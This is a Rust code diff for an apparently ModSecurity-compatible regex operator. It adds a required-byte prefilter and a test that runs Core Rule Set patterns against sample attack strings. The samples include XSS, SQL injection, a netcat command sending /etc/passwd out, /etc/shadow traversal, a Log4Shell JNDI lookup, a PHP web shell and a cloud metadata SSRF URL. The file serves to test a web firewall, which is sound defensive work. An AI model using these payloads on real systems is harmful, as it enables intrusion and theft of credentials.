@@ -12,6 +12,7 @@ pub struct Rx {
     /// `None` only for a parameter with macros that is not a valid regex before expansion.
     regex: Option<Regex>,
     literals: Option<Vec<Vec<u8>>>,
+    required: Option<prefilter::ByteSet>,
 }
 
 impl Rx {
@@ -19,21 +20,27 @@ impl Rx {
         if pattern.contains("%{") {
             // Macros are expanded per evaluation; the raw text need not be a valid regex.
             return Ok(Self {
-                regex: build(pattern).ok(),
+                regex: build(pattern).ok().map(|(regex, _)| regex),
                 literals: None,
+                required: None,
             });
         }
-        let regex = build(pattern)?;
+        let (regex, bytes_mode) = build(pattern)?;
+        let bytes_pattern = braced_hex_as_bytes(pattern);
         Ok(Self {
             regex: Some(regex),
-            literals: prefilter::regex_literals(&braced_hex_as_bytes(pattern)),
+            literals: prefilter::regex_literals(&bytes_pattern),
+            // The byte analysis reads the pattern as the bytes-mode regex does.
+            required: bytes_mode
+                .then(|| prefilter::required_bytes(&bytes_pattern))
+                .flatten(),
         })
     }
 }
 
 /// Bytes semantics first (as PCRE without UTF mode); a pattern that needs Unicode classes
 /// (e.g. a non-ASCII character inside `[...]`) falls back to Unicode mode.
-fn build(pattern: &str) -> Result<Regex, String> {
+fn build(pattern: &str) -> Result<(Regex, bool), String> {
     let bytes_pattern = braced_hex_as_bytes(pattern);
     let builder = |unicode: bool| {
         let text: &str = if unicode { pattern } else { &bytes_pattern };
@@ -46,7 +53,8 @@ fn build(pattern: &str) -> Result<Regex, String> {
             .build()
     };
     builder(false)
-        .or_else(|_| builder(true))
+        .map(|regex| (regex, true))
+        .or_else(|_| builder(true).map(|regex| (regex, false)))
         .map_err(|e| format!("@rx {pattern:?}: {e}"))
 }
 
@@ -91,7 +99,7 @@ impl Operator for Rx {
         let dynamic;
         let regex = match expanded {
             Some(pattern) => match build(pattern) {
-                Ok(regex) => {
+                Ok((regex, _)) => {
                     dynamic = regex;
                     &dynamic
                 }
@@ -116,6 +124,10 @@ impl Operator for Rx {
 
     fn required_literals(&self) -> Option<Vec<Vec<u8>>> {
         self.literals.clone()
+    }
+
+    fn required_bytes(&self) -> Option<prefilter::ByteSet> {
+        self.required
     }
 }
 
@@ -224,6 +236,46 @@ mod crs_tests {
             with_literals += usize::from(rx.required_literals().is_some());
         }
         assert!(with_literals > 0);
+        // Soundness of the byte prefilter: whatever a CRS regex matches holds a required byte.
+        let samples: &[&[u8]] = &[
+            b"<script>alert(1)</script>",
+            b"1' or '1'='1' union select password from users--",
+            b"; cat /etc/passwd | nc 10.0.0.1 4444",
+            b"../../../../etc/shadow%00",
+            b"${jndi:ldap://x/a}",
+            b"<?php system($_GET['c']); ?>",
+            b"javascript:alert(document.cookie)",
+            b"\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",
+            "\u{2019} or \u{2019}1\u{2019}=\u{2019}1".as_bytes(),
+            b"http://169.254.169.254/latest/meta-data/",
+            b"sleep(10)#",
+            b"/bin/bash -c 'id'",
+            b"ping -n 10 127.0.0.1 && whoami",
+            b"{{7*7}}",
+            b"select * from information_schema.tables",
+            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            b"hello",
+        ];
+        let mut with_bytes = 0;
+        for pattern in &patterns {
+            let rx = Rx::compile(pattern).unwrap_or_else(|e| panic!("{e}"));
+            let Some(set) = rx.required_bytes() else {
+                continue;
+            };
+            with_bytes += 1;
+            for sample in samples {
+                for input in [sample.to_vec(), sample.to_ascii_lowercase()] {
+                    if rx.evaluate(&input, None, None) {
+                        assert!(
+                            set.found_in(&input),
+                            "{pattern} matched {input:?} without a required byte"
+                        );
+                    }
+                }
+            }
+        }
+        assert!(with_bytes > 0);
+        eprintln!("{with_bytes} CRS @rx with a required byte set");
         eprintln!(
             "{} CRS @rx, {with_literals} with prefilter literals",
             patterns.len()
